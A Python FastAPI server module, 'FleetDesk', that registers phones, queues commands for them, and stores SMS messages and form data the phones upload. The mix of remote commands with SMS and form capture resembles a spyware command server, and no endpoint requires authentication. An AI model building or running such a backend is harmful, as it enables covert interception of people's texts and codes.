import logging
from contextlib import asynccontextmanager
from datetime import datetime, timedelta
from typing import Any, Callable, List, Optional

from fastapi import APIRouter, Body, Depends, FastAPI, Request
from fastapi.exceptions import RequestValidationError
from fastapi.middleware.cors import CORSMiddleware
from fastapi.responses import JSONResponse, PlainTextResponse

from .commands import CommandQueue, utcnow
from .errors import FleetDeskError
from .events import EventLog
from .notify import build_notifier
from .records import Command, DeviceRecord
from .registry import DeviceRegistry
from .schemas import (RegisterReq, StatusResp, DeviceOut, CommandCreate, CommandOut,
                      SmsIn, SmsOut, FormIn, FormOut, ErrorResp)
from .settings import settings
from .store import RecordStore, build_store

log = logging.getLogger(__name__)

router = APIRouter()


# --- service lookups: one registry/queue/log per app ---
def get_registry(request: Request) -> DeviceRegistry:
    return request.app.state.registry

def get_queue(request: Request) -> CommandQueue:
    return request.app.state.queue

def get_events(request: Request) -> EventLog:
    return request.app.state.events


def _device_out(d: DeviceRecord, online: bool) -> DeviceOut:
    return DeviceOut(device_id=d.device_id, device_name=d.device_name, os_version=d.os_version,
                     phone_number=d.phone_number, battery_level=d.battery_level,
                     is_online=online, last_seen=d.last_seen, created_at=d.created_at)

def _command_out(c: Command) -> CommandOut:
    return CommandOut(id=c.id, device_id=c.device_id, command_type=c.command_type,
                      command_data=c.command_data, status=c.status.value, created_at=c.created_at)


@router.get("/", response_class=PlainTextResponse)
def root():
    return "Device Management Server is Running"

# ---------------- devices ----------------
@router.post("/device/register", response_model=StatusResp)
def register(req: RegisterReq, registry: DeviceRegistry = Depends(get_registry)):
    created = registry.register(req.device_id, req.model_dump(exclude_unset=True))
    return StatusResp(message="Device registered." if created else "Device data received.")

@router.get("/devices", response_model=List[DeviceOut])
def list_devices(registry: DeviceRegistry = Depends(get_registry)):
    return [_device_out(d, online) for d, online in registry.list()]

@router.get("/device/{device_id}", response_model=DeviceOut)
def get_device(device_id: str, registry: DeviceRegistry = Depends(get_registry)):
    return _device_out(*registry.get(device_id))

@router.delete("/device/{device_id}", response_model=StatusResp)
def delete_device(device_id: str, registry: DeviceRegistry = Depends(get_registry)):
    registry.delete(device_id)
    return StatusResp(message="Device deleted.")

# ---------------- commands ----------------
@router.post("/command/send", response_model=StatusResp)
def send_command(body: CommandCreate, queue: CommandQueue = Depends(get_queue)):
    cmd = queue.enqueue(body.device_id, body.command_type, body.command_data)
    return StatusResp(message=f"Command {cmd.id} saved.")

@router.get("/device/{device_id}/commands", response_model=List[CommandOut])
def claim_commands(device_id: str, queue: CommandQueue = Depends(get_queue)):
    return [_command_out(c) for c in queue.claim_pending(device_id)]

@router.get("/command/{command_id}", response_model=CommandOut)
def get_command(command_id: int, queue: CommandQueue = Depends(get_queue)):
    return _command_out(queue.get(command_id))

@router.post("/command/{command_id}/execute", response_model=StatusResp)
def execute_command(command_id: int, queue: CommandQueue = Depends(get_queue)):
    queue.mark_executed(command_id)
    return StatusResp(message="Command executed.")

# ---------------- sms / forms ----------------
@router.post("/device/{device_id}/sms", response_model=StatusResp)
def log_sms(device_id: str, body: SmsIn, events: EventLog = Depends(get_events)):
    events.log_sms(device_id, body.sender, body.message_body)
    return StatusResp(message="Data logged.")

@router.get("/device/{device_id}/sms", response_model=List[SmsOut])
def list_sms(device_id: str, events: EventLog = Depends(get_events)):
    return [SmsOut(**vars(r)) for r in events.list_sms(device_id)]

@router.delete("/sms/{sms_id}", response_model=StatusResp)
def delete_sms(sms_id: int, events: EventLog = Depends(get_events)):
    events.delete_sms(sms_id)
    return StatusResp(message="SMS deleted.")

@router.post("/device/{device_id}/forms", response_model=StatusResp)
def log_form(device_id: str, body: FormIn, events: EventLog = Depends(get_events)):
    events.log_form(device_id, body.custom_data)
    return StatusResp(message="Data logged.")

@router.get("/device/{device_id}/forms", response_model=List[FormOut])
def list_forms(device_id: str, events: EventLog = Depends(get_events)):
    return [FormOut(**vars(r)) for r in events.list_forms(device_id)]

# ---------------- global settings ----------------
@router.post("/config/{key}", response_model=StatusResp)
def put_config(key: str, value: Any = Body(...), events: EventLog = Depends(get_events)):
    events.put_setting(key, value)
    return StatusResp(message=f"{key} updated.")

@router.get("/config/{key}")
def get_config(key: str, events: EventLog = Depends(get_events)):
    return events.get_setting(key)


def _error(status_code: int, code: str, message: str) -> JSONResponse:
    return JSONResponse(status_code=status_code,
                        content=ErrorResp(error=code, message=message).model_dump())


def create_app(store: Optional[RecordStore] = None, notifier=None,
               clock: Callable[[], datetime] = utcnow,
               threshold: Optional[timedelta] = None) -> FastAPI:
    store = store or build_store()
    notifier = notifier or build_notifier(settings.redis_url, settings.redis_channel)
    threshold = threshold or timedelta(seconds=settings.presence_threshold_seconds)

    @asynccontextmanager
    async def lifespan(app: FastAPI):
        store.init()
        log.info("fleetdesk ready (%s)", type(store).__name__)
        yield

    app = FastAPI(title="FleetDesk", lifespan=lifespan)
    app.add_middleware(CORSMiddleware, allow_origins=settings.cors_origins,
                       allow_headers=["*"], allow_methods=["*"])

    app.state.store = store
    app.state.registry = DeviceRegistry(store, threshold=threshold, clock=clock)
    app.state.queue = CommandQueue(store, notifier=notifier, clock=clock)
    app.state.events = EventLog(store, clock=clock)

    @app.exception_handler(FleetDeskError)
    async def _fleetdesk_error(request: Request, exc: FleetDeskError):
        return _error(exc.status_code, exc.code, exc.message)

    @app.exception_handler(RequestValidationError)
    async def _validation_error(request: Request, exc: RequestValidationError):
        first = exc.errors()[0] if exc.errors() else {}
        where = ".".join(str(p) for p in first.get("loc", ()) if p != "body") or "body"
        return _error(400, "invalid_request", f"{where}: {first.get('msg', 'invalid request')}")

    app.include_router(router)
    return app


app = create_app()
